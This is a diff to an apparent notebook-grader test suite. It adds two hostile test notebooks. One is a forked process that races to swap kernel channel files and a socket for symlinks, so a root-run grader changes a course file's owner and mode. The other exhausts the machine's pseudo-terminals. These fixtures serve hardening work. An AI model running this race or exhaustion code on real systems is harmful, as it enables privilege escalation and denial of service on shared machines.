@@ -570,6 +570,64 @@ FORGED_NAMES = (
 )
 
 
+# issue 40, seams 2 and 4: links planted for root to follow, the machine's terminals
+RACED_FILE = f"notebooks/{LESSON}/{LESSON}.ipynb"  # a file of the course's, root's when grading runs as root
+RACES_LINKS = """
+import os
+import stat
+import time
+
+from ipykernel import get_connection_file
+
+
+def _linked(path, target):
+    \"\"\"Whether a link to target could be made at path.\"\"\"
+    try:
+        os.symlink(target, path)
+        return True
+    except OSError:
+        return False
+
+
+def _swap_for_links(target, seconds):
+    \"\"\"Swap the entries of this kernel's channel folder (and of the folder inside) for links to target: those there
+    now, then the bridge's socket as soon as it is bound, before the grading sets its owner and mode by path.\"\"\"
+    top = os.path.dirname(get_connection_file())
+    names = ["kernel.json", "ipc"] + [f"kernel-{n}" for n in range(1, 6)]
+    for entry in [os.path.join(folder, name) for folder in (top, os.path.join(top, "ipc")) for name in names]:
+        if _linked(entry + ".link", target):
+            os.rename(entry + ".link", entry)
+    bridge, ready = os.path.join(top, "bridge"), False
+    end = time.monotonic() + seconds
+    while time.monotonic() < end:
+        ready = ready or _linked(bridge + ".link", target)  # made beforehand: the swap is then one rename
+        try:
+            if ready and stat.S_ISSOCK(os.lstat(bridge).st_mode):
+                os.rename(bridge + ".link", bridge)
+                ready = False
+        except OSError:
+            pass
+
+
+if os.fork() == 0:  # a process of its own races while the kernel goes on to the tests
+    try:
+        _swap_for_links("COURSE_ROOT/RACED_FILE", 5)
+    finally:
+        os._exit(0)
+""".replace("RACED_FILE", RACED_FILE)
+HOLDS_TERMINALS = """
+import os
+
+held = []  # kept for the rest of the notebook: its tests all run while it holds them
+try:
+    while len(held) < 64:
+        held.append(os.openpty())
+except OSError:
+    pass
+print(f"holds {len(held)} terminals")
+"""
+
+
 KINDS = [
     Kind(
         "infinite_loop",
@@ -1003,6 +1061,25 @@ KINDS = [
         status.SUSPICIOUS,
         FULL,
         beside=FORGED_NAMES,
+    ),
+    # issue 40, seams 2 and 4: links planted for root to follow, the machine's terminals
+    Kind(
+        "races_links",
+        "a process swapping its kernel's channel files and the bridge's socket, once bound, for links to a course file",
+        lambda: notebook({NAIVE: RACES_LINKS + "\n\n" + reference()[NAIVE]}),
+        status.GRADED,
+        FULL,
+        needs_isolation=True,
+        unsafe_for_plain="it plants links in the folder of its connection file, Jupyter's runtime folder",
+    ),
+    Kind(
+        "holds_terminals",
+        "a kernel that opens as many terminals (ptys) as it can and holds them while its tests run",
+        lambda: notebook({NAIVE: HOLDS_TERMINALS + "\n\n" + reference()[NAIVE]}),
+        status.GRADED,
+        FULL,
+        needs_isolation=True,
+        unsafe_for_plain="it holds 64 of the machine's terminals",
     ),
 ]
 SIZES = ("returns_8mb_string", "exception_name_4mb", "forged_mistake")
